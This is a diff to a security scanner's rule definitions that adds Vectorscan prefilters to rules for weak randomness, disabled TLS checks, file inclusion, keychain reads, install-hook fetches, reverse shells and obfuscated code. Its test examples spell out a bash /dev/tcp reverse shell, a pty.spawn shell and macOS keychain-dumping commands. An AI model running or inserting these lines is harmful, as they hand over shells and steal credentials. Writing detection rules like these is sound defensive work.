@@ -3,6 +3,10 @@
 R(category, id, description, severity, cwe, regex, keywords, languages, remediation,
   pos=[...], neg=[...]) where pos/neg items are "text" or ("text", "path").  A text without a
 path is scanned as a file of the rule's first language.
+
+prefilter= (optional) is what Vectorscan looks for instead of the regex: a tail of it that
+every match ends with (docs/rules.md, "prefilter").  Give one when the regex starts with
+common words (token|secret|key ... then up to 80 bytes) and ends with the rare part.
 """
 
 EXT = {"python": "app.py", "javascript": "app.js", "typescript": "app.ts", "java": "App.java", "go": "main.go",
@@ -19,7 +23,8 @@ LOCAL_HOSTS = [r"^(?:localhost|127\.[0-9.]+|0\.0\.0\.0|::1|host\.docker\.interna
                r"^(?:www\.)?example\.(?:com|org|net)$"]
 
 
-def R(cat, id, desc, sev, cwe, regex, keywords, langs, rem, pos, neg, paths=None, egress=None, allow=None, secret_group=None):
+def R(cat, id, desc, sev, cwe, regex, keywords, langs, rem, pos, neg, paths=None, egress=None, allow=None, secret_group=None,
+      prefilter=None):
     def ex(items, match):
         out = []
         for it in items:
@@ -29,7 +34,7 @@ def R(cat, id, desc, sev, cwe, regex, keywords, langs, rem, pos, neg, paths=None
             out.append(dict(text=text, path=path, match=match))
         return out
     _RULES[cat].append(dict(id=id, description=desc, category=cat, severity=sev, cwe=cwe, regex=regex,
-                            secret_group=secret_group, keywords=keywords or None, languages=langs or None, paths=paths,
+                            prefilter=prefilter, secret_group=secret_group, keywords=keywords or None, languages=langs or None, paths=paths,
                             egress=egress, placeholder_check=None, remediation=rem, frameworks=FW[cat],
                             allowlist=allow or {}, examples=ex(pos, True) + ex(neg, False)))
     if secret_group is None and "(" in regex.replace("(?", "").replace("\\(", ""):
@@ -70,12 +75,14 @@ R(C, "py-insecure-random-token", "random module used for a token, password, key 
   r"(?i)(?:token|passw|secret|nonce|otp|salt|session|api_?key|reset|csrf|invite)\w*[ \t]*=[^=\n][^\n]{0,80}\brandom\.(?:random|randint|choice|choices|getrandbits|randrange|sample)\(",
   ["random."], ["python"], RAND_REM,
   ["reset_token = ''.join(random.choice(string.ascii_letters) for _ in range(32))", 'otp = random.randint(100000, 999999)'],
-  ['delay = random.uniform(0.5, 1.5)', 'reset_token = secrets.token_urlsafe(32)', 'sample = random.choice(rows)'])
+  ['delay = random.uniform(0.5, 1.5)', 'reset_token = secrets.token_urlsafe(32)', 'sample = random.choice(rows)'],
+  prefilter=r'(?i)\brandom\.(?:random|randint|choice|choices|getrandbits|randrange|sample)\(')
 R(C, "py-tls-verify-disabled", "TLS certificate verification disabled (verify=False)", "high", "CWE-295",
   r"\b(?:requests|httpx|session|client|s|http)\.[a-z_]+\([^\n]{0,200}\bverify[ \t]*=[ \t]*False\b|\bhttpx\.(?:Client|AsyncClient)\([^\n]{0,120}verify[ \t]*=[ \t]*False",
   ["verify"], ["python"], TLS_REM,
   ['r = requests.get(url, timeout=10, verify=False)', 'client = httpx.Client(verify=False)'],
-  ['r = requests.get(url, timeout=10, verify=True)', 'r = requests.get(url, verify="/etc/ssl/corp-ca.pem")'])
+  ['r = requests.get(url, timeout=10, verify=True)', 'r = requests.get(url, verify="/etc/ssl/corp-ca.pem")'],
+  prefilter=r'verify[ \t]*=[ \t]*False')
 R(C, "py-ssl-unverified-context", "ssl context without certificate or host-name checks", "high", "CWE-295",
   r"\bssl\._create_unverified_context\(|\b(?:cert_reqs|verify_mode)[ \t]*=[ \t]*(?:ssl\.)?CERT_NONE\b|\bcheck_hostname[ \t]*=[ \t]*False\b",
   ["ssl", "CERT_NONE", "check_hostname"], ["python"], TLS_REM,
@@ -113,7 +120,8 @@ R(C, "js-math-random-token", "Math.random used for a token, password, key or id"
   r"(?i)(?:token|passw|secret|nonce|otp|salt|session|api_?key|reset|csrf|invite)\w*[\"']?[ \t]*[=:][^=\n][^\n]{0,80}\bMath\.random\(\)",
   ["Math.random"], JS, RAND_REM,
   ["const resetToken = Math.random().toString(36).slice(2);", "  sessionId: Math.floor(Math.random() * 1e12).toString(16),"],
-  ["const jitter = Math.random() * 100;", "const resetToken = crypto.randomBytes(32).toString('hex');"])
+  ["const jitter = Math.random() * 100;", "const resetToken = crypto.randomBytes(32).toString('hex');"],
+  prefilter=r'(?i)\bMath\.random\(\)')
 R(C, "js-tls-reject-unauthorized", "TLS verification disabled (rejectUnauthorized: false / NODE_TLS_REJECT_UNAUTHORIZED=0)", "high", "CWE-295",
   r"\brejectUnauthorized[\"']?[ \t]*:[ \t]*false\b|\bNODE_TLS_REJECT_UNAUTHORIZED[\"'\]]*[ \t]*=[ \t]*[\"']?0\b", ["rejectUnauthorized", "NODE_TLS_REJECT_UNAUTHORIZED"],
   JS + ["shell"], TLS_REM,
@@ -146,7 +154,8 @@ R(C, "java-insecure-random", "java.util.Random / Math.random for a token, passwo
   r"(?i)(?:token|passw|secret|nonce|otp|salt|session|apikey|reset|code)\w*[ \t]*=[^=\n][^\n]{0,80}(?:new (?:java\.util\.)?Random\(|Math\.random\(\))",
   ["Random"], ["java"], RAND_REM,
   ['String token = Long.toHexString(new Random().nextLong());', 'int resetCode = (int) (Math.random() * 1000000);'],
-  ['byte[] token = new byte[32]; new SecureRandom().nextBytes(token);', 'int jitter = new Random().nextInt(100);'])
+  ['byte[] token = new byte[32]; new SecureRandom().nextBytes(token);', 'int jitter = new Random().nextInt(100);'],
+  prefilter=r'(?i)(?:new (?:java\.util\.)?Random\(|Math\.random\(\))')
 R(C, "java-trust-all", "trust-all TrustManager / host-name verifier", "high", "CWE-295",
   r"\b(?:TrustAllCerts|trustAllCerts|TrustAllStrategy|TrustSelfSignedStrategy|NoopHostnameVerifier|ALLOW_ALL_HOSTNAME_VERIFIER)\b|set(?:Default|SSL)?HostnameVerifier\([^\n]{0,60}->[ \t]*true",
   ["trust", "HostnameVerifier"], ["java"], TLS_REM,
@@ -169,7 +178,8 @@ R(C, "go-insecure-skip-verify", "tls.Config InsecureSkipVerify: true", "high", "
 R(C, "go-math-rand-token", "math/rand used for a token, password, key or nonce", "medium", "CWE-338",
   r"(?i)(?:token|passw|secret|nonce|otp|salt|session|key|reset)\w*(?:\[[^\]\n]*\])?[ \t]*:?=[^=\n][^\n]{0,80}\brand\.(?:Int|Intn|Int31|Int31n|Int63|Int63n|Uint32|Uint64|Read)\(",
   ["rand."], ["go"], RAND_REM, ['token := fmt.Sprintf("%x", rand.Int63())', 'resetCode := rand.Intn(1000000)'],
-  ['delay := time.Duration(rand.Intn(100)) * time.Millisecond', 'token := make([]byte, 32); _, err := crand.Reader.Read(token)'])
+  ['delay := time.Duration(rand.Intn(100)) * time.Millisecond', 'token := make([]byte, 32); _, err := crand.Reader.Read(token)'],
+  prefilter=r'(?i)\brand\.(?:Int|Intn|Int31|Int31n|Int63|Int63n|Uint32|Uint64|Read)\(')
 R(C, "go-weak-rsa-key", "rsa.GenerateKey with fewer than 2048 bits", "high", "CWE-326",
   r"\brsa\.GenerateKey\([^,\n]{1,60},[ \t]*(?:256|384|512|768|1024|1536)[ \t]*\)", ["rsa.GenerateKey"], ["go"], RSA_REM,
   ['key, err := rsa.GenerateKey(rand.Reader, 1024)'], ['key, err := rsa.GenerateKey(rand.Reader, 4096)'])
@@ -199,7 +209,8 @@ R(C, "cs-cert-validation-disabled", "server certificate validation callback that
 R(C, "cs-insecure-random", "System.Random used for a token, password, key or nonce", "medium", "CWE-338",
   r"(?i)(?:token|passw|secret|nonce|otp|salt|session|key|reset)\w*[ \t]*=[^=\n][^\n]{0,80}\bnew Random\(",
   ["Random"], ["csharp"], RAND_REM, ['var resetToken = new Random().Next().ToString("x8");'],
-  ['var resetToken = Convert.ToHexString(RandomNumberGenerator.GetBytes(32));', 'var delay = new Random().Next(100);'])
+  ['var resetToken = Convert.ToHexString(RandomNumberGenerator.GetBytes(32));', 'var delay = new Random().Next(100);'],
+  prefilter=r'(?i)\bnew Random\(')
 R(C, "cs-weak-rsa-key", "RSA key shorter than 2048 bits in .NET", "high", "CWE-326",
   r"\bnew RSACryptoServiceProvider\([ \t]*(?:384|512|768|1024|1536)[ \t]*\)|\bRSA\.Create\([ \t]*(?:384|512|768|1024|1536)[ \t]*\)",
   ["RSA"], ["csharp"], RSA_REM, ['using var rsa = RSA.Create(1024);'], ['using var rsa = RSA.Create(3072);'])
@@ -217,13 +228,15 @@ R(C, "rb-verify-none", "OpenSSL::SSL::VERIFY_NONE", "high", "CWE-295", r"\bOpenS
   ['http.verify_mode = OpenSSL::SSL::VERIFY_NONE'], ['http.verify_mode = OpenSSL::SSL::VERIFY_PEER'])
 R(C, "rb-insecure-random", "Kernel#rand / Random used for a token, password, key or nonce", "medium", "CWE-338",
   r"(?i)(?:token|passw|secret|nonce|otp|salt|session|key|reset)\w*[ \t]*=[^=\n][^\n]{0,80}(?:\brand\(|\bRandom\.(?:rand|new)\b)",
-  ["rand"], ["ruby"], RAND_REM, ["reset_token = rand(36**32).to_s(36)"], ["reset_token = SecureRandom.hex(32)", "delay = rand(5)"])
+  ["rand"], ["ruby"], RAND_REM, ["reset_token = rand(36**32).to_s(36)"], ["reset_token = SecureRandom.hex(32)", "delay = rand(5)"],
+  prefilter=r'(?i)(?:\brand\(|\bRandom\.(?:rand|new)\b)')
 
 # ------------------------------------------------------------ PHP
 R(C, "php-weak-password-hash", "MD5/SHA-1/crypt for passwords or tokens", "high", "CWE-916",
   r"(?i)(?:pass(?:word|wd)?|pwd|token|secret)\w*[\"'\]]*[ \t]*=[^=\n][^\n]{0,60}\b(?:md5|sha1|crypt)\(|\b(?:md5|sha1)\([ \t]*\$(?:pass(?:word|wd)?|pwd)\b",
   ["md5", "sha1", "crypt"], ["php"], "Use password_hash()/password_verify() (bcrypt or Argon2id).",
-  ['$hash = md5($password);', "$token = sha1(uniqid());"], ['$hash = password_hash($password, PASSWORD_ARGON2ID);', '$etag = md5($body);'])
+  ['$hash = md5($password);', "$token = sha1(uniqid());"], ['$hash = password_hash($password, PASSWORD_ARGON2ID);', '$etag = md5($body);'],
+  prefilter=r'(?i)\b(?:md5|sha1|crypt)\(|\$(?:pass(?:word|wd)?|pwd)\b')
 R(C, "php-mcrypt", "mcrypt extension (removed in PHP 7.2, weak ciphers and modes)", "high", "CWE-327",
   r"\bmcrypt_(?:encrypt|decrypt|create_iv|module_open|generic)\(", ["mcrypt_"], ["php"], CIPHER_REM,
   ['$ct = mcrypt_encrypt(MCRYPT_RIJNDAEL_128, $key, $data, MCRYPT_MODE_ECB);'], ['$ct = sodium_crypto_secretbox($data, $nonce, $key);'])
@@ -234,7 +247,8 @@ R(C, "php-openssl-weak-cipher", "openssl_encrypt with DES/RC4/Blowfish or ECB", 
 R(C, "php-insecure-random", "rand/mt_rand/uniqid used for a token, password, key or nonce", "medium", "CWE-338",
   r"(?i)(?:token|passw|secret|nonce|otp|salt|session|key|reset)\w*[\"'\]]*[ \t]*=[^=\n][^\n]{0,60}\b(?:rand|mt_rand|uniqid|lcg_value|str_shuffle)\(",
   ["rand", "uniqid", "str_shuffle"], ["php"], RAND_REM, ['$resetToken = md5(uniqid(mt_rand(), true));', '$otp = mt_rand(100000, 999999);'],
-  ['$resetToken = bin2hex(random_bytes(32));', '$delay = mt_rand(1, 5);'])
+  ['$resetToken = bin2hex(random_bytes(32));', '$delay = mt_rand(1, 5);'],
+  prefilter=r'(?i)\b(?:rand|mt_rand|uniqid|lcg_value|str_shuffle)\(')
 R(C, "php-curl-verify-disabled", "cURL peer/host verification switched off", "high", "CWE-295",
   r"\bCURLOPT_SSL_VERIFY(?:PEER|HOST)[ \t]*(?:,|=>)[ \t]*(?:0|false|FALSE)\b", ["CURLOPT_SSL_VERIFY"], ["php"], TLS_REM,
   ['curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, false);', "'curl' => [CURLOPT_SSL_VERIFYHOST => 0],"], ['curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, true);'])
@@ -272,7 +286,8 @@ R(C, "c-static-iv", "IV declared as a constant array or literal", "high", "CWE-3
 R(C, "c-insecure-rand-secret", "rand()/random() used for a token, key, IV, nonce or salt", "medium", "CWE-338",
   r"(?i)(?:token|passw|secret|nonce|salt|session|key|iv)\w*(?:\[[^\]\n]{0,16}\])?[ \t]*=[^=\n][^\n;]{0,60}\b(?:std::)?(?:rand|random|drand48|lrand48|mrand48)\(\)",
   ["rand"], CC, RAND_REM, ['key[i] = rand() % 256;', 'session_id = (uint32_t)random();'],
-  ['RAND_bytes(key, sizeof key);', 'int roll = rand() % 6 + 1;'])
+  ['RAND_bytes(key, sizeof key);', 'int roll = rand() % 6 + 1;'],
+  prefilter=r'(?i)\b(?:std::)?(?:rand|random|drand48|lrand48|mrand48)\(\)')
 R(C, "c-mbedtls-weak", "mbedTLS MD5/SHA-1/DES/3DES/ARC4 or AES-ECB", "high", "CWE-327",
   r"\bmbedtls_(?:md2|md4|md5|sha1|des|des3|arc4|ripemd160)_[a-z0-9_]+\(|\bMBEDTLS_(?:MD_MD5|MD_SHA1|CIPHER_DES_[A-Z0-9_]+|CIPHER_ARC4_128|CIPHER_AES_(?:128|192|256)_ECB)\b|\bmbedtls_aes_crypt_ecb\(",
   ["mbedtls", "MBEDTLS_"], CC, CIPHER_REM,
@@ -412,7 +427,8 @@ R(I, "go-path-traversal", "file path from request in filepath.Join/os.Open/Serve
 R(I, "php-file-inclusion", "include/require/file access with request input", "critical", "CWE-98",
   r"\b(?:include|require|include_once|require_once|file_get_contents|fopen|readfile|unlink|file_put_contents)[ \t]*\(?[^;\n]{0,40}\$_(?:GET|POST|REQUEST|COOKIE)",
   ["$_GET", "$_POST", "$_REQUEST", "$_COOKIE"], ["php"], PATH_REM, ['include($_GET["page"] . ".php");', 'readfile("uploads/" . $_GET["f"]);'],
-  ['include __DIR__ . "/header.php";'])
+  ['include __DIR__ . "/header.php";'],
+  prefilter=r'\$_(?:GET|POST|REQUEST|COOKIE)')
 R(I, "cs-path-traversal", "file access built from request input in ASP.NET", "high", "CWE-22",
   r"\b(?:File\.(?:ReadAllText|ReadAllBytes|OpenRead|Open|Delete|WriteAllText)|Path\.Combine|PhysicalFile)\([^)\n]{0,80}Request\.(?:Query|Form|QueryString|RouteValues)",
   ["Request."], ["csharp"], PATH_REM, ['var bytes = File.ReadAllBytes(Path.Combine(root, Request.Query["name"]));'], ['var bytes = File.ReadAllBytes(Path.Combine(root, "index.html"));'])
@@ -562,7 +578,8 @@ R(B, "keychain-read", "macOS keychain secret read from a script or program", "hi
   r"\bsecurity[ \t]+(?:find-(?:generic|internet)-password\b[^\n]{0,120}[ \t]-[wg]\b|dump-keychain\b)", ["security"], None,
   "Read credentials through the application's own keychain entry with user consent, never by shelling out in project code.",
   [("security find-generic-password -s 'Chrome Safe Storage' -w", "grab.sh"), ('out = subprocess.check_output(["sh", "-c", "security dump-keychain -d"])', "x.py")],
-  [("# security find-generic-password is documented in man security(1)", "notes.sh")])
+  [("# security find-generic-password is documented in man security(1)", "notes.sh")],
+  prefilter=r'[ \t]-[wg]\b|\bsecurity[ \t]+dump-keychain\b')
 R(B, "npm-install-script-fetch", "package.json install hook that downloads or runs code", "high", "CWE-506",
   r"\"(?:preinstall|install|postinstall|preuninstall|postuninstall|prepare)\"[ \t]*:[ \t]*\"[^\"\n]*(?:\bcurl\b|\bwget\b|\bnode[ \t]+-e\b|\b(?:ba)?sh[ \t]+-c\b|\bpowershell\b|Invoke-WebRequest|\biwr\b|\|[ \t]*(?:ba)?sh\b|https?://)",
   ["install", "prepare"], None, "Remove network and inline-code execution from install hooks; ship built artefacts instead.",
@@ -587,7 +604,9 @@ R(B, "reverse-shell", "reverse shell to a remote host", "critical", "CWE-506",
   r"/dev/tcp/" + HOST + r"/[0-9]{1,5}|\b(?:nc|ncat|netcat)\b[^\n]{0,40}[ \t]-[A-Za-z]*e[ \t]+(?:/bin/)?(?:ba)?sh\b|\bpty\.spawn\([ \t]*[\"'](?:/bin/)?(?:ba)?sh[\"']",
   ["/dev/tcp/", "nc", "ncat", "netcat", "pty.spawn"], None, "Remove it: this hands a shell on the machine to a remote host.",
   [("bash -i >& /dev/tcp/198.51.100.4/4444 0>&1", "x.sh"), ('os.dup2(s.fileno(), 0); pty.spawn("/bin/bash")', "x.py")],
-  [("nc -z db.internal 5432", "wait.sh")])
+  [("nc -z db.internal 5432", "wait.sh")],
+  prefilter=r'''/dev/tcp/([A-Za-z0-9](?:[A-Za-z0-9\-]{0,62}\.)+[A-Za-z0-9\-]{1,63}|\[[0-9A-Fa-f:]+\])/[0-9]{1,5}|[ \t]-[A-Za-z]*e[ \t]+(?:/bin/)?(?:ba)?sh\b|\bpty\.spawn\([ \t]*[\"'](?:/bin/)?(?:ba)?sh[\"']''')
 R(B, "js-obfuscator-names", "javascript-obfuscator style _0x identifiers (hidden code)", "medium", "CWE-506",
   r"\b(?:var|const|let|function)[ \t]+_0x[a-f0-9]{4,6}\b", ["_0x"], JS, "Replace obfuscated code with its reviewed source.",
-  ["var _0x3f2a=['\\x72\\x65\\x71\\x75\\x69\\x72\\x65'];(function(a){return a;})(_0x3f2a[0]);"], ["var a=function(b){return b*2};const c=0x1f;"])
+  ["var _0x3f2a=['\\x72\\x65\\x71\\x75\\x69\\x72\\x65'];(function(a){return a;})(_0x3f2a[0]);"], ["var a=function(b){return b*2};const c=0x1f;"],
+  prefilter=r'_0x[a-f0-9]{4,6}\b')
